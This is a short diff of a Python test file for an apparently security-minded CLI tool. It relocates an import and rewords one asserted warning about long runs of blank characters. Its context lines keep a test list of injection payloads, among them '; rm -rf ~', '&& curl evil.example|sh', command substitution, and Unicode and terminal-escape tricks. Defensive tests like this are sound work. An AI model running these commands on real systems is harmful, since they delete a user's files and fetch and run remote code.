@@ -13,12 +13,12 @@ from urllib.parse import quote
 
 import pytest
 
+from tests.sources.links import link_to
 from trayapp.cli.output import escape_unprintable
 from trayapp.cli.shown_server import decisive_lines
 from trayapp.cli.source import Proposal, proposals
 from trayapp.config.read.entry import read_one
 from trayapp.model.errors import MultiMcpError
-from trayapp.sources.recognize import link_to
 
 PAYLOADS = (
     "$(id)", "`id`", "; rm -rf ~", "&& curl evil.example|sh", "| sh", "> /etc/x", "\u202egnp.x", "a\u200bb", "\x1b[2J",
@@ -181,7 +181,7 @@ def test_what_a_reader_may_miss_is_said() -> None:
     assert server is not None
     lines = list(decisive_lines(server))
     assert any(line.startswith("not npx: ") for line in lines)
-    assert "has 3,000 blanks in a row: read what is behind them, too" in lines
+    assert "has 3,000 blanks in a row: read what follows them, too" in lines
 
 
 @pytest.mark.requirement("source-whole")
